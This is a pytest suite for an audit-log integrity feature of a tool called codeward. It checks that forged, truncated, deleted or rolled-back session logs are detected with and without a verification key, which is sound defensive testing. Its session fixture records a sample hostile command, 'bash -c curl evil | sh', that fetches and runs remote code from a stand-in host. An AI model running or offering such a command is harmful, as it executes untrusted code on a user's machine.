"""Keyed, forward-secure sealing and the index of sessions, attacked the ways issue 13 lists.

Each forgery is run twice where it makes sense: against what verify can prove without the key (the
control: the forgery passes, or is caught only by the index) and with ``--verification-key``
(caught, with a one-line reason naming the session).
"""

from __future__ import annotations

import os
import re
import shutil
import stat
from pathlib import Path

import pytest
from tests.audit.forge import rechain, records, rewrite_index
from tests.support.cw_subprocess import run_cw

from codeward.audit.index import index_path
from codeward.audit.keys import next_key, read_state, state_path
from codeward.audit.writer import AuditSink

A = "aaaa1111-0000-4000-8000-000000000001"
B = "bbbb2222-0000-4000-8000-000000000002"
C = "cccc3333-0000-4000-8000-000000000003"


def setup_keys() -> str:
    r = run_cw("logs", "setup-keys")
    assert r.returncode == 0, r.stderr
    key = r.stdout.strip()
    assert re.fullmatch(r"cwvk1-[0-9a-f]{64}", key), r.stdout
    return key


def session(home: Path, sid: str, *, evil: bool = True, end: bool = True, day: str = "2025-03-04") -> Path:
    ticks = iter(range(10_000))
    sink = AuditSink(
        sid,
        logs_dir=home / "logs",
        seal_home=home,
        clock=lambda: f"{day}T10:{next(ticks) // 60 % 60:02d}:{next(ticks) % 60:02d}.000Z",
    )
    sink.write_event({"type": "session.started", "provider": "fake", "model": "m", "approval_mode": "full-auto"})
    sink.write_event(
        {"type": "egress", "host": "127.0.0.1", "bytes": 10, "sha256": "d" * 64, "files": [], "redactions": {}}
    )
    if evil:
        sink.write_event({"type": "command.executed", "argv": ["bash", "-c", "curl evil | sh"], "exit_code": 0})
    sink.write_event({"type": "command.executed", "argv": ["make", "test"], "exit_code": 0})
    if end:
        sink.write_event({"type": "session.ended", "status": "completed"})
    else:
        sink.close()
    assert sink.path is not None
    return sink.path


def verify(*args: str, key: str | None = None) -> tuple[int, list[str], str]:
    extra = ("--verification-key", key) if key else ()
    r = run_cw("logs", "verify", *args, *extra)
    assert r.returncode in (0, 1), r.stderr
    return r.returncode, [ln for ln in r.stdout.splitlines() if ln.startswith("FAIL")], r.stderr


def test_setup_keys_prints_the_key_once_and_keeps_only_later_keys(cw_home: Path) -> None:
    key = setup_keys()
    seed = bytes.fromhex(key[6:])
    st = state_path(cw_home)
    assert stat.S_IMODE(st.stat().st_mode) == 0o600
    assert read_state(cw_home).key == seed  # epoch 0 not used yet
    again = run_cw("logs", "setup-keys")
    assert again.returncode == 2 and "already exists" in again.stderr

    session(cw_home, A)
    session(cw_home, B)
    state = read_state(cw_home)
    assert state is not None and state.epoch == 2 and state.key == next_key(next_key(seed))
    # neither the seed nor a used epoch key is left anywhere in the home
    for used in (seed, next_key(seed)):
        for p in cw_home.rglob("*"):
            if p.is_file():
                data = p.read_bytes()
                assert used.hex().encode() not in data and used not in data, p
    code, bad, _ = verify("--all", key=key)
    assert code == 0 and not bad


def test_rechained_log_without_the_evil_command(cw_home: Path) -> None:
    """The review's first forgery: rewrite a session without its command record, recompute the
    chain and the seal, re-MAC with the only key the attacker can read, and fix up the index."""
    key = setup_keys()
    session(cw_home, A)
    log = session(cw_home, B)
    session(cw_home, C)
    stolen = read_state(cw_home).key  # what root on the machine can read today
    forged = rechain(records(log), drop_types=("command",), key=stolen)
    log.write_bytes(forged)
    rewrite_index(index_path(cw_home / "logs"), {B: forged})
    assert b"curl evil" not in log.read_bytes()

    code, bad, stderr = verify("--all")  # control: without the key the forgery holds together
    assert code == 0, bad
    assert "--verification-key" in stderr

    code, bad, _ = verify("--all", key=key)
    assert code == 1
    assert any(line.startswith("FAIL  index: index line") and "MAC" in line for line in bad), bad
    code, bad, _ = verify(B, key=key)
    assert code == 1 and len(bad) == 1 and B in bad[0] and "[forged]" in bad[0]


def test_rechained_log_without_index_fixup_is_caught_even_without_the_key(cw_home: Path) -> None:
    setup_keys()
    log = session(cw_home, A)
    log.write_bytes(rechain(records(log), drop_types=("command",)))
    code, bad, _ = verify("--all")
    assert code == 1 and len(bad) == 1 and A in bad[0] and "replaced or re-sealed" in bad[0]


def test_deleted_session_is_named(cw_home: Path) -> None:
    key = setup_keys()
    session(cw_home, A)
    gone = session(cw_home, B)
    session(cw_home, C)
    gone.unlink()
    code, bad, _ = verify("--all")
    assert code == 1 and len(bad) == 1 and B in bad[0] and "was deleted" in bad[0]
    code, bad, _ = verify("--all", key=key)
    assert code == 1 and len(bad) == 1 and B in bad[0]


def test_deleted_last_session_and_its_index_entries(cw_home: Path) -> None:
    """Cutting the index's tail needs no key; the sealing state has moved past those epochs."""
    key = setup_keys()
    session(cw_home, A)
    gone = session(cw_home, B)
    gone.unlink()
    idx = index_path(cw_home / "logs")
    lines = idx.read_bytes().splitlines(keepends=True)
    idx.write_bytes(b"".join(lines[:3]))  # the genesis, A's open and close only
    code, bad, _ = verify("--all", key=key)
    assert code == 1 and len(bad) == 1
    assert bad[0].startswith("FAIL  index: epoch 1 claimed from the sealing state, but no session"), bad


def test_truncated_and_resealed(cw_home: Path) -> None:
    key = setup_keys()
    log = session(cw_home, A)
    stolen = read_state(cw_home).key
    forged = rechain(records(log), keep=2, key=stolen)
    log.write_bytes(forged)
    rewrite_index(index_path(cw_home / "logs"), {A: forged}, key=None)
    code, bad, _ = verify(A, key=key)
    assert code == 1 and len(bad) == 1 and "[forged]" in bad[0] and "line 1" in bad[0]
    # the same cut, re-sealed without any key, is unkeyed as far as the key can tell
    log.write_bytes(rechain(records(log), keep=2))
    code, bad, _ = verify(A, key=key)
    assert code == 1 and len(bad) == 1 and "[forged]" in bad[0]


def test_resealed_copy_of_a_log(cw_home: Path, tmp_path: Path) -> None:
    """A CI artifact re-chained without a record: caught by its MACs and by the index."""
    key = setup_keys()
    log = session(cw_home, A)
    copy = tmp_path / "artifact.jsonl"
    copy.write_bytes(log.read_bytes())
    code, bad, _ = verify(str(copy), key=key)
    assert code == 0, bad
    copy.write_bytes(rechain(records(log), drop_types=("command",), key=read_state(cw_home).key))
    code, bad, _ = verify(str(copy), key=key)
    assert code == 1 and "[forged]" in bad[0]
    code, bad, _ = verify(str(copy))  # no key: the index still says it is not the log it recorded
    assert code == 1 and "is not the log the index recorded" in bad[0]


def test_rolled_back_sealing_state(cw_home: Path, tmp_path: Path) -> None:
    key = setup_keys()
    session(cw_home, A)
    saved = tmp_path / "seal-backup"
    shutil.copy2(state_path(cw_home), saved)
    session(cw_home, B)  # epoch 1
    shutil.copy2(saved, state_path(cw_home))  # back to epoch 1: B's key is usable again
    session(cw_home, C)  # claims epoch 1 a second time
    code, bad, _ = verify("--all", key=key)
    assert code == 1
    assert bad == [f"FAIL  {C}: epoch 1 was already used by session {B}: the sealing state was rolled back"]


def test_rolled_back_sealing_state_before_any_new_session(cw_home: Path, tmp_path: Path) -> None:
    key = setup_keys()
    saved = tmp_path / "seal-backup"
    shutil.copy2(state_path(cw_home), saved)
    session(cw_home, A)
    session(cw_home, B)
    shutil.copy2(saved, state_path(cw_home))
    code, bad, _ = verify("--all", key=key)
    assert code == 1
    assert bad == [
        "FAIL  sealing state: at epoch 0, but the index already used epoch 1: the sealing state was rolled back"
    ]


def test_sealing_state_replaced_with_a_key_of_our_own(cw_home: Path) -> None:
    key = setup_keys()
    session(cw_home, A)
    st = state_path(cw_home)
    st.write_bytes(st.read_bytes().replace(read_state(cw_home).key.hex().encode(), b"ab" * 32))
    code, bad, _ = verify("--all", key=key)
    assert code == 1 and bad == ["FAIL  sealing state: its key is not epoch 1's key: it was altered or replaced"]


def test_wrong_key_and_bad_key_argument(cw_home: Path) -> None:
    setup_keys()
    session(cw_home, A)
    other = "cwvk1-" + "11" * 32
    code, bad, _ = verify(A, key=other)
    assert code == 1 and "[wrongkey]" in bad[0]
    r = run_cw("logs", "verify", "--verification-key", "nonsense")
    assert r.returncode == 2 and "--verification-key" in r.stderr and "Traceback" not in r.stderr


def test_unkeyed_sessions_before_setup_keys_are_hash_chain_only(cw_home: Path) -> None:
    session(cw_home, A)  # before setup-keys
    key = setup_keys()
    session(cw_home, B)
    r = run_cw("logs", "verify", "--all", "--verification-key", key)
    assert r.returncode == 0, r.stdout
    assert f"OK    {A}: 6 records, sealed, unkeyed: written before setup-keys, hash chain only" in r.stdout
    assert f"OK    {B}: 6 records, sealed, MACs checked" in r.stdout
    # a keyed session stripped of its MACs (to pass as an old one) is refused
    log_b = next((cw_home / "logs").rglob(f"{B}.jsonl"))
    stripped = [{k: v for k, v in r.items() if k not in ("epoch", "key_id")} for r in records(log_b)]
    log_b.write_bytes(rechain(stripped))
    code, bad, _ = verify(B, key=key)
    assert code == 1 and "[unkeyed]" in bad[0]


def test_killed_session_gap_is_explained(cw_home: Path) -> None:
    """A session that never ended (its writer killed): unsealed, and verify says what happened."""
    key = setup_keys()
    log = session(cw_home, A)
    lines = log.read_bytes().splitlines(keepends=True)
    log.write_bytes(b"".join(lines[:3]))  # what a kill -9 after three records leaves
    idx = index_path(cw_home / "logs")
    idx.write_bytes(b"".join(idx.read_bytes().splitlines(keepends=True)[:2]))  # genesis, open; no close yet
    code, bad, _ = verify("--all", key=key)
    assert code == 1 and len(bad) == 1
    assert "the index has no close for it either: codeward stopped without ending the session" in bad[0]
    assert "after 3 records" in bad[0]


def test_state_file_is_not_followed_through_a_link(cw_home: Path, tmp_path: Path) -> None:
    setup_keys()
    st = state_path(cw_home)
    real = tmp_path / "elsewhere"
    os.replace(st, real)
    st.symlink_to(real)
    before = real.read_bytes()
    r = run_cw("logs", "verify", "--all")
    assert r.returncode == 1 and "FAIL  sealing state:" in r.stdout and "symbolic links" in r.stdout
    with pytest.raises(Exception, match="sealing state"):
        session(cw_home, A)
    assert real.read_bytes() == before


def test_show_is_a_timeline_naming_the_key(cw_home: Path) -> None:
    setup_keys()
    sink = AuditSink(A, logs_dir=cw_home / "logs", seal_home=cw_home)
    sink.write_event({"type": "session.started", "provider": "fake", "model": "m"})
    sink.write_event({"type": "turn.started"})
    sink.write_event(
        {"type": "egress", "host": "h", "bytes": 5, "sha256": "d" * 64, "files": ["a.py"], "redactions": {}}
    )
    sink.write_event({"type": "command.executed", "argv": ["make", "test"], "tier": "bwrap", "exit_code": 2})
    sink.write_event({"type": "turn.started"})
    sink.write_event({"type": "session.ended", "status": "completed"})
    r = run_cw("logs", "show", A)
    assert r.returncode == 0, r.stderr
    lines = r.stdout.splitlines()
    kid = read_state(cw_home).key_id
    assert any(f"sealed with key {kid} (epoch 0)" in ln for ln in lines)
    turns = [ln.split()[-2:] for ln in lines if ln.strip().endswith(("turn 1", "turn 2"))]
    assert turns == [["turn", "1"], ["turn", "2"]]
    assert any("-> request" in ln and "files: a.py; redacted: nothing redacted" in ln for ln in lines)
    assert any("$ command" in ln and "make test [tier bwrap] exit 2" in ln for ln in lines)
    assert lines[-1] == "integrity: ok"


def test_ci_setup_from_a_secret_in_the_environment(cw_home: Path) -> None:
    key = "cwvk1-" + "5a" * 32
    r = run_cw("logs", "setup-keys", "--key-from-env", "CI_SEAL_KEY", env={"CI_SEAL_KEY": key})
    assert r.returncode == 0, r.stderr
    assert key not in r.stdout + r.stderr and "5a5a5a" not in r.stdout + r.stderr
    session(cw_home, A)
    assert b"5a" * 32 not in state_path(cw_home).read_bytes()  # epoch 0's key is gone after the session
    code, bad, _ = verify("--all", key=key)
    assert code == 0 and not bad
    r = run_cw("logs", "setup-keys", "--force", "--key-from-env", "UNSET_VAR")
    assert r.returncode == 2 and "UNSET_VAR" in r.stderr


def test_everything_deleted_is_not_a_clean_bill_with_the_key(cw_home: Path) -> None:
    key = setup_keys()
    session(cw_home, A)
    shutil.rmtree(cw_home / "logs")
    state_path(cw_home).unlink()
    assert run_cw("logs", "verify", "--all").returncode == 0  # control: nothing left to check without the key
    code, bad, _ = verify("--all", key=key)
    assert code == 1 and bad[0].startswith("FAIL  sealing state: missing: it was deleted")


def test_running_session_keeps_neither_the_epoch_key_nor_used_record_keys(cw_home: Path) -> None:
    from codeward.audit.keys import derive

    key = setup_keys()
    seed = bytes.fromhex(key[6:])
    sink = AuditSink(A, logs_dir=cw_home / "logs", seal_home=cw_home)
    sink.write_event({"type": "session.started", "provider": "fake"})
    first_record_key = derive(seed, "records", A)  # epoch 0's key is the seed itself

    def held(obj: object, depth: int = 0) -> list[bytes]:
        found: list[bytes] = []
        for v in vars(obj).values():
            if isinstance(v, bytes):
                found.append(v)
            elif hasattr(v, "__dict__") and depth < 3 and not isinstance(v, type):
                found.extend(held(v, depth + 1))
        return found

    values = held(sink)
    assert values, "the sink holds its derived keys as bytes"
    assert seed not in values and first_record_key not in values
    sink.close()


def test_interleaved_sessions_verify(cw_home: Path) -> None:
    """Two sessions running at once (their records and index entries interleave) are both intact."""
    key = setup_keys()
    one = AuditSink(A, logs_dir=cw_home / "logs", seal_home=cw_home)
    two = AuditSink(B, logs_dir=cw_home / "logs", seal_home=cw_home)
    one.write_event({"type": "session.started", "provider": "fake"})
    two.write_event({"type": "session.started", "provider": "fake"})
    for i in range(3):
        two.write_event({"type": "command.executed", "argv": ["echo", str(i)], "exit_code": 0})
        one.write_event({"type": "command.executed", "argv": ["echo", str(i)], "exit_code": 0})
    two.write_event({"type": "session.ended", "status": "completed"})
    one.write_event({"type": "session.ended", "status": "completed"})
    r = run_cw("logs", "verify", "--all", "--verification-key", key)
    assert r.returncode == 0, r.stdout
    assert f"OK    {A}: 6 records, sealed, MACs checked, epoch 0" in r.stdout
    assert f"OK    {B}: 6 records, sealed, MACs checked, epoch 1" in r.stdout
    assert "NOTE" not in r.stdout


def test_killed_before_the_first_record_is_explained(cw_home: Path) -> None:
    key = setup_keys()
    log = session(cw_home, A)
    log.write_bytes(b"")  # killed between creating the log and writing its first record
    idx = index_path(cw_home / "logs")
    idx.write_bytes(b"".join(idx.read_bytes().splitlines(keepends=True)[:2]))  # genesis, open
    code, bad, _ = verify("--all", key=key)
    assert code == 1 and len(bad) == 1 and "after 0 records" in bad[0] and "killed or crashed" in bad[0]


def test_index_entry_removed_from_the_middle(cw_home: Path) -> None:
    setup_keys()
    session(cw_home, A)
    gone = session(cw_home, B)
    session(cw_home, C)
    idx = index_path(cw_home / "logs")
    lines = idx.read_bytes().splitlines(keepends=True)
    idx.write_bytes(b"".join(lines[:3] + lines[5:]))  # B's open and close (line 0 is the genesis)
    gone.unlink()
    code, bad, _ = verify("--all")
    assert code == 1
    assert bad[0] == "FAIL  index: index line 4: holds entry 5 where entry 3 belongs (entries removed or moved)"
